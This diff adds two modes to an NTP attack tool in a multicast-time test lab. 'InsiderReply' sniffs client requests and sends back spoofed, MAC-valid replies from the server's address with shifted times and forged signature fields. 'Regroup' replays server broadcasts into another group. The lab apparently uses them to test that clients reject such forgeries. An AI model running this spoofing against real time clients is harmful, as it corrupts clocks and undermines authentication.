@@ -17,6 +17,7 @@ use mcast_lab::attack::{
     transmit,
 };
 use mcast_lab::netns::read_pcap_udp;
+use mcast_proto::ExtensionField;
 
 /// Keyless attacker of the namespace lab.
 #[derive(Parser, Debug)]
@@ -157,6 +158,53 @@ enum Mode {
         /// Send this long before the next genuine broadcast is due.
         #[arg(long, default_value_t = 40)]
         lead_ms: u64,
+    },
+    /// An on-path insider against calibration: it holds the server's MAC
+    /// key and sees every request, so it answers each at once from the
+    /// server's address with a reply that echoes the cookie, carries a
+    /// valid MAC and times `--shift-ms` off. It cannot make the server's
+    /// signature, so the replies take turns: no signature field, a field
+    /// with its own key's fingerprint, and one with the server's
+    /// (`--public-key`); both fields carry a signature made once in advance
+    /// for another header, so no reply waits for a signature and each
+    /// leaves before the server's genuine one.
+    InsiderReply {
+        #[command(flatten)]
+        limits: Limits,
+        /// The server the requests go to.
+        #[arg(long)]
+        server: Ipv4Addr,
+        /// Only requests from this client.
+        #[arg(long)]
+        client: Option<Ipv4Addr>,
+        /// The keys file holding the server's MAC key.
+        #[arg(long)]
+        keys: PathBuf,
+        /// The server's key id.
+        #[arg(long)]
+        key: u32,
+        /// The server's public key line (`ed25519:...`), for its fingerprint.
+        #[arg(long)]
+        public_key: String,
+        /// How far the forged receive and transmit times are off.
+        #[arg(long, default_value_t = 500, allow_hyphen_values = true)]
+        shift_ms: i64,
+    },
+    /// Re-send each of a server's broadcasts to `--from-group`, unchanged
+    /// and from its address, into `--to-group` at once (a replay into
+    /// another group: its signature names the group it was sent to).
+    Regroup {
+        #[command(flatten)]
+        limits: Limits,
+        /// The server whose broadcasts to move.
+        #[arg(long)]
+        server: Ipv4Addr,
+        /// The group it sends to.
+        #[arg(long, default_value = "224.0.1.1")]
+        from_group: Ipv4Addr,
+        /// The group to re-send into.
+        #[arg(long)]
+        to_group: Ipv4Addr,
     },
     /// Spoofed requests in a victim's name to a multicast or broadcast
     /// address, so every server there answers the victim.
@@ -306,6 +354,27 @@ fn run(mode: Mode) -> Result<Summary, String> {
             shift_ms,
             Duration::from_millis(lead_ms),
         ),
+        Mode::InsiderReply {
+            limits,
+            server,
+            client,
+            keys,
+            key,
+            public_key,
+            shift_ms,
+        } => insider_reply(
+            &limits,
+            (server, client),
+            (&keys, key),
+            &public_key,
+            shift_ms,
+        ),
+        Mode::Regroup {
+            limits,
+            server,
+            from_group,
+            to_group,
+        } => regroup(&limits, server, from_group, to_group),
         Mode::McastRequest {
             limits,
             victim,
@@ -380,6 +449,137 @@ fn insider(
                 }
             }
         }
+    }
+    Ok(s)
+}
+
+/// A reply to the request `request` echoing its cookie, `shift_ms` off
+/// our clock, with signature field variant `turn % 3` (see
+/// [`Mode::InsiderReply`]) and a valid MAC under `key`.
+fn forged_signed_reply(
+    request: &[u8],
+    shift_ms: i64,
+    turn: u64,
+    server_fp: mcast_keys::signed::Fingerprint,
+    own: &ExtensionField,
+    key: &mcast_keys::Key,
+) -> Option<Vec<u8>> {
+    use mcast_proto::{Datagram, Header, Mode as NtpMode, NtpTimestamp, RefId};
+    let req = Datagram::parse(request).ok()?;
+    let shift = mcast_proto::NtpDuration::from_seconds_f64(shift_ms as f64 / 1000.0);
+    let now = NtpTimestamp::from_bits(mcast_lab::attack::ntp_now()) + shift;
+    let mut h = Header::new(NtpMode::Server);
+    h.stratum = 2;
+    h.poll = req.header.poll;
+    h.precision = mcast_proto::Log2Seconds(-20);
+    h.reference_id = RefId::from_code("LIAR");
+    h.reference = now;
+    h.origin = req.header.transmit;
+    h.receive = now;
+    h.transmit = now;
+    let mut d = Datagram::new(h);
+    // The field of a reply signed by our own key once, in advance, its
+    // signature left as it is: no signing per reply, so the forgery is out
+    // before the server's genuine (signed) reply. The client refuses it on
+    // the fingerprint (ours) or, relabelled with the server's, on the
+    // signature: either way before anything else.
+    let field = |fp: Option<mcast_keys::signed::Fingerprint>| {
+        let mut value = own.value.clone();
+        if let (Some(fp), Some(at)) = (fp, value.get_mut(4..12)) {
+            at.copy_from_slice(&fp.0);
+        }
+        ExtensionField {
+            field_type: mcast_keys::signed::FIELD_TYPE,
+            value,
+        }
+    };
+    match turn % 3 {
+        0 => {}
+        1 => d.extensions.push(field(None)),
+        _ => d.extensions.push(field(Some(server_fp))),
+    }
+    let mut out = Vec::new();
+    mcast_keys::packet::sign(key, &d, &mut out);
+    Some(out)
+}
+
+fn insider_reply(
+    l: &Limits,
+    (server, client): (Ipv4Addr, Option<Ipv4Addr>),
+    (keys, key_id): (&std::path::Path, u32),
+    public_key: &str,
+    shift_ms: i64,
+) -> Result<Summary, String> {
+    let store = mcast_keys::KeyStore::load(keys).map_err(|e| e.to_string())?;
+    let key = mcast_keys::KeyId::new(key_id)
+        .and_then(|id| store.get(id))
+        .ok_or_else(|| format!("key {key_id} is not in {}", keys.display()))?
+        .clone();
+    let server_fp = mcast_keys::signed::PublicKey::parse(public_key)
+        .map_err(|e| e.to_string())?
+        .fingerprint();
+    let own = mcast_keys::signed::ServerKey::from_seed(&[0x1e; 32]).sign_reply_field(
+        &mcast_proto::Datagram::new(mcast_proto::Header::new(mcast_proto::Mode::Server))
+            .header
+            .to_bytes(),
+    );
+    let b = bounds(l)?;
+    let mut sniff = io("packet socket", Sniffer::new(&l.iface))?;
+    let spoof = io("raw socket", Spoofer::new())?;
+    eprintln!("ntp-attack: listening");
+    let mut s = summary("insider-reply");
+    while b.more(s.sent) {
+        let Some(p) = io("sniff", sniff.next_until(b.until()))? else {
+            break;
+        };
+        let wanted = *p.dst.ip() == server
+            && p.dst.port() == NTP
+            && client.is_none_or(|c| c == *p.src.ip())
+            && mode(&p.payload) == Some(3);
+        if !wanted {
+            continue;
+        }
+        s.seen += 1;
+        if let Some(bytes) =
+            forged_signed_reply(&p.payload, shift_ms, s.sent, server_fp, &own, &key)
+        {
+            io(
+                "send",
+                spoof.send(SocketAddrV4::new(server, NTP), p.src, &bytes),
+            )?;
+            s.sent += 1;
+        }
+    }
+    Ok(s)
+}
+
+fn regroup(
+    l: &Limits,
+    server: Ipv4Addr,
+    from_group: Ipv4Addr,
+    to_group: Ipv4Addr,
+) -> Result<Summary, String> {
+    let b = bounds(l)?;
+    let mut sniff = io("packet socket", Sniffer::new(&l.iface))?;
+    let spoof = io("raw socket", Spoofer::new())?;
+    eprintln!("ntp-attack: listening");
+    let mut s = summary("regroup");
+    let (src, dst) = (
+        SocketAddrV4::new(server, NTP),
+        SocketAddrV4::new(to_group, NTP),
+    );
+    let mut newest = 0u64;
+    while b.more(s.sent) {
+        let Some(p) = io("sniff", sniff.next_until(b.until()))? else {
+            break;
+        };
+        let Some(t) = genuine(&p, server, from_group, newest) else {
+            continue;
+        };
+        newest = t;
+        s.seen += 1;
+        io("send", spoof.send(src, dst, &p.payload))?;
+        s.sent += 1;
     }
     Ok(s)
 }
